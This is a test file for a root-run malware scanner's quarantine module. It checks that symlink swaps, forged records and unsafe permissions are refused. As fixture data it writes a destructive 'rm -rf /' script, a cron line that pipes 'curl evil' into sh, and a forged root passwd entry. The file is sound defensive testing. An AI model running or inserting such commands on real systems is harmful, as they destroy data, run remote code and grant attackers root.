import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  chmodSync,
  chownSync,
  existsSync,
  lchownSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { Quarantine } from '../../../analyzers/scanners/index.js';
import { tempDir } from './run-fixture.js';

// vigil runs as root (so do these tests); the attacker is whoever can write to a scanned folder.
// Each attack is done for real with files, links and owners in a temporary directory.
const NOBODY = 65534;
const PASSWD = 'root:x:0:0:root:/root:/bin/bash\n';
const hits = [{ engine: 'yara' as const, name: 'Evil' }];

describe('quarantine under attack', () => {
  let dir: string;
  let scanned: string;
  let q: Quarantine;
  let keyFile: string;
  beforeEach(() => {
    dir = tempDir('q-attack');
    scanned = join(dir, 'uploads');
    mkdirSync(scanned);
    chmodSync(scanned, 0o777); // others can write here: that is the point
    keyFile = join(dir, 'data', 'quarantine.key');
    q = new Quarantine(join(dir, 'quarantine'), { keyFile });
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  /** A flagged file and its identity as the scan saw it. */
  function flagged(name = 'evil.sh') {
    const path = join(scanned, name);
    writeFileSync(path, '#!/bin/sh\nrm -rf /\n');
    const st = lstatSync(path);
    return { path, identity: { dev: st.dev, ino: st.ino, size: st.size, mtimeMs: st.mtimeMs } };
  }

  it('a flagged file swapped for a symlink after the scan: the link target is neither chmod-ed nor moved', async () => {
    const victim = join(dir, 'shadow');
    writeFileSync(victim, 'secret hashes\n');
    chmodSync(victim, 0o640);
    const f = flagged();
    unlinkSync(f.path);
    symlinkSync(victim, f.path);
    await expect(q.put(f.path, hits, { scanned: f.identity })).rejects.toThrow(/symbolic link/);
    expect(statSync(victim).mode & 0o777).toBe(0o640);
    expect(readFileSync(victim, 'utf8')).toBe('secret hashes\n');
    expect(lstatSync(f.path).isSymbolicLink()).toBe(true);
    expect(await q.list()).toEqual([]);
  });

  it('a flagged file swapped for another file, or its folder for a link: refused, nothing touched', async () => {
    const f = flagged();
    unlinkSync(f.path);
    writeFileSync(f.path, 'an innocent file of the attacker');
    await expect(q.put(f.path, hits, { scanned: f.identity })).rejects.toThrow(
      /not the file that was scanned/,
    );
    expect(statSync(f.path).mode & 0o777).not.toBe(0);

    // The folder of the flagged file replaced by a link to a folder root owns.
    const etc = join(dir, 'etc');
    mkdirSync(etc);
    writeFileSync(join(etc, 'evil.sh'), PASSWD);
    chmodSync(join(etc, 'evil.sh'), 0o644);
    const g = flagged('sub-evil.sh');
    const sub = join(scanned, 'sub');
    mkdirSync(sub);
    renameSync(g.path, join(sub, 'evil.sh'));
    const identity = lstatSync(join(sub, 'evil.sh'));
    renameSync(sub, join(dir, 'moved-away')); // keeps the scanned inode alive, so its number is not reused
    symlinkSync(etc, sub);
    await expect(
      q.put(join(sub, 'evil.sh'), hits, { scanned: { dev: identity.dev, ino: identity.ino } }),
    ).rejects.toThrow(/not the file that was scanned/);
    expect(readFileSync(join(etc, 'evil.sh'), 'utf8')).toBe(PASSWD);
    expect(statSync(join(etc, 'evil.sh')).mode & 0o777).toBe(0o644);
  });

  it('the file that was scanned is quarantined: neutralised, copied, authenticated, removed', async () => {
    const f = flagged();
    const rec = await q.put(f.path, hits, { scanned: f.identity });
    expect(existsSync(f.path)).toBe(false);
    expect(statSync(join(q.dir, `${rec.id}.bin`)).mode & 0o777).toBe(0o400);
    expect(statSync(keyFile).mode & 0o777).toBe(0o600);
    expect((await q.get(rec.id)).sha256).toBe(rec.sha256);
  });

  it('restore refuses a symlinked folder on the way (a stand-in for /etc/cron.d)', async () => {
    const cron = join(dir, 'cron.d');
    mkdirSync(cron);
    const sub = join(scanned, 'jobs');
    mkdirSync(sub);
    const path = join(sub, 'job');
    writeFileSync(path, '* * * * * root curl evil | sh\n');
    const rec = await q.put(path, hits);
    rmSync(sub, { recursive: true });
    symlinkSync(cron, sub);
    await expect(q.restore(rec.id)).rejects.toThrow(
      `${sub} is a symbolic link; refusing to restore through it`,
    );
    expect(readdirSync(cron)).toEqual([]);
    expect((await q.get(rec.id)).id).toBe(rec.id); // still in quarantine
  });

  it('restore follows a system link only root could have made (e.g. /bin → usr/bin)', async () => {
    const sys = join(dir, 'sys');
    mkdirSync(join(sys, 'usr', 'bin'), { recursive: true });
    chmodSync(sys, 0o755);
    symlinkSync('usr/bin', join(sys, 'bin')); // root's link, in a folder only root can write
    const path = join(sys, 'bin', 'tool');
    writeFileSync(path, 'flagged by mistake');
    const rec = await q.put(path, hits);
    const back = await q.restore(rec.id);
    expect(readFileSync(join(sys, 'usr', 'bin', 'tool'), 'utf8')).toBe('flagged by mistake');
    expect(back.restoredTo).toBe(path);
    // The same link made by someone else is not followed.
    const q2 = await q.put(path, hits);
    rmSync(join(sys, 'bin'));
    symlinkSync('usr/bin', join(sys, 'bin'));
    lchownSync(join(sys, 'bin'), NOBODY, NOBODY); // the link itself, as if nobody made it
    await expect(q.restore(q2.id)).rejects.toThrow(/is a symbolic link; refusing to restore through it/);
  });

  it('restore --force refuses a symlink at the target (a stand-in passwd stays as it is)', async () => {
    const passwd = join(dir, 'passwd');
    writeFileSync(passwd, PASSWD);
    const f = flagged();
    const rec = await q.put(f.path, hits, { scanned: f.identity });
    symlinkSync(passwd, f.path);
    await expect(q.restore(rec.id, { force: true })).rejects.toThrow(
      /is a symbolic link; refusing to restore over it/,
    );
    expect(readFileSync(passwd, 'utf8')).toBe(PASSWD);
  });

  it('restore refuses a forged record, and one whose MAC does not match', async () => {
    const passwd = join(dir, 'passwd');
    writeFileSync(passwd, PASSWD);
    const f = flagged();
    const rec = await q.put(f.path, hits, { scanned: f.identity });
    // Forged: a record naming another original path, with a made-up MAC.
    const forged = 'q-00000000000000ff';
    writeFileSync(join(q.dir, `${forged}.bin`), 'attacker:x:0:0::/root:/bin/sh\n');
    writeFileSync(
      join(q.dir, `${forged}.json`),
      JSON.stringify({ record: { ...rec, id: forged, originalPath: passwd }, mac: 'f'.repeat(64) }),
    );
    await expect(q.restore(forged, { force: true })).rejects.toThrow(/not authenticated/);
    // Tampered: the genuine record with its path changed keeps its old MAC.
    const file = join(q.dir, `${rec.id}.json`);
    const doc = JSON.parse(readFileSync(file, 'utf8')) as { record: { originalPath: string } };
    doc.record.originalPath = passwd;
    writeFileSync(file, JSON.stringify(doc));
    await expect(q.restore(rec.id, { force: true })).rejects.toThrow(/not authenticated/);
    expect(readFileSync(passwd, 'utf8')).toBe(PASSWD);
  });

  it('refuses a quarantine folder others can write to, or that someone else owns', async () => {
    const f = flagged();
    const rec = await q.put(f.path, hits, { scanned: f.identity });
    chmodSync(q.dir, 0o777);
    await expect(q.restore(rec.id)).rejects.toThrow(/can be written by others \(mode 777\)/);
    const g = flagged('second.sh');
    await expect(q.put(g.path, hits)).rejects.toThrow(/can be written by others/);
    expect(existsSync(g.path)).toBe(true);
    chmodSync(q.dir, 0o700);
    chownSync(q.dir, NOBODY, NOBODY);
    await expect(q.restore(rec.id)).rejects.toThrow(`is owned by uid ${NOBODY}`);
    await expect(q.put(g.path, hits)).rejects.toThrow(`is owned by uid ${NOBODY}`);
  });

  it('refuses a key file someone else owns or others can read', async () => {
    const f = flagged();
    await q.put(f.path, hits, { scanned: f.identity });
    chmodSync(keyFile, 0o644);
    await expect(q.list()).rejects.toThrow(/quarantine key .* mode 0600/);
    chmodSync(keyFile, 0o600);
    chownSync(keyFile, NOBODY, NOBODY);
    await expect(q.list()).rejects.toThrow(/quarantine key/);
  });
});
